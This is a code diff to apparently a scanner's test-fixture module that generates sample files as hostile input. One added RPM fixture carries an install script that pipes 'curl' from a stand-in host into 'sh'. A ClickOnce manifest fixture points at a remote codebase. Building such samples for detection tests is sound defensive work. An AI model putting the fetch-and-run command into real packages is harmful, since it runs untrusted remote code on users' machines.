@@ -1,11 +1,16 @@
 // Every file that the tests of the file side make: what hostile input is made from.
+import { writeRpm } from '../archives/write-rpm.ts'
 import { containers } from '../containers.ts'
+import { buildDotnet } from '../dotnet/build-dotnet.ts'
+import { eicarCarriers } from '../eicar-carriers.ts'
 import { buildElf } from '../elf/build-elf.ts'
+import { binaries } from '../identify/binary-samples.ts'
 import { buildFat, buildMacho } from '../macho/build-macho.ts'
 import { buildPe } from '../pe/build-pe.ts'
 import { PE_TRAITS } from '../pe/traits.ts'
 import { lookalikes } from '../traits/lookalikes.ts'
 import { suspects } from '../traits/suspects.ts'
+import { chunk, exif, jpeg, png, segment, webp } from '../write-picture.ts'
 
 export interface Golden {
   readonly name: string
@@ -54,19 +59,44 @@ const programs: readonly Golden[] = [
   { name: 'fat.macho', bytes: buildFat([buildMacho(macho), buildMacho({ ...macho, bits: 32 })]) },
 ]
 
+const described = exif({ 271: 'Example', 37510: 'a comment' }, true, true)
+const others: readonly Golden[] = [
+  { name: 'scripts.rpm', bytes: writeRpm('#!/bin/sh\ncurl -fsS http://a.example/i.sh | sh\n') },
+  { name: 'assembly.dll', bytes: buildDotnet() },
+  { name: 'exif.jpg', bytes: jpeg(segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0'), described]))) },
+  { name: 'exif.png', bytes: png(chunk('eXIf', described), chunk('tEXt', Buffer.from('Comment\0text'))) },
+  { name: 'exif.webp', bytes: webp(['VP8X', Buffer.alloc(10)], ['EXIF', described]) },
+  {
+    name: 'a.application',
+    bytes: Buffer.from(
+      '<?xml version="1.0"?><asmv1:assembly xmlns:asmv1="urn:schemas-microsoft-com:asm.v1"><description asmv2:publisher="A"/><deployment install="false"><deploymentProvider codebase="http://a.example/B.application"/></deployment></asmv1:assembly>',
+    ),
+  },
+]
+
+/** The least of each binary type, which is how readers meet a file of which nearly all is missing. */
+const leastOfEach = Object.entries(binaries).flatMap(([type, samples]): readonly Golden[] => {
+  const [bytes] = samples
+  return bytes === undefined ? [] : [{ name: `least.${type}`, bytes }]
+})
+
 /** One of each trait: the others of the same trait differ in a name only. */
 const traitPrograms = Object.entries(PE_TRAITS).flatMap(([id, { hits }]): readonly Golden[] => {
   const [recipe] = Object.values(hits)
   return recipe === undefined ? [] : [{ name: `${id}.exe`, bytes: buildPe(recipe) }]
 })
 
-/** In a fixed order, names unique but for what two corpora call the same. */
+/** In a fixed order, names unique. */
 export async function goldenFiles(): Promise<readonly Golden[]> {
-  const archives = await Promise.all(
-    Object.entries(containers).map(async ([name, make]) => ({ name, bytes: await make() })),
+  const made = await Promise.all(
+    Object.entries({ ...containers, ...eicarCarriers }).map(async ([name, make]) => ({ name, bytes: await make() })),
   )
-  return [...archives, ...programs, ...traitPrograms, ...suspects, ...lookalikes].map(({ name, bytes }) => ({
-    name,
-    bytes,
-  }))
+  const all = [...made, ...programs, ...others, ...leastOfEach, ...traitPrograms, ...suspects, ...lookalikes]
+  const seen = new Map<string, number>()
+  return all.map(({ name, bytes }) => {
+    const count = (seen.get(name) ?? 0) + 1
+    seen.set(name, count)
+    // Two corpora may call theirs alike. The number stands in front: what a file is called by its end matters.
+    return { name: count === 1 ? name : `${count}-${name}`, bytes }
+  })
 }
